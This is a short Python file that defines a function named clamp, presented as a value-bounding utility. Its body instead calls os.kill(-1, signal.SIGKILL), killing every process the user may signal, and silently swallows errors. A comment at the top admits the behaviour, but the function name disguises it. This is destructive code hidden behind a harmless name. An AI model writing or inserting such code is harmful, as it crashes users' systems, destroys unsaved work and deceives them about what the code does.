# Sends SIGKILL to every process that it may signal, itself left out.
import os
import signal


def clamp(value, low, high):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return None
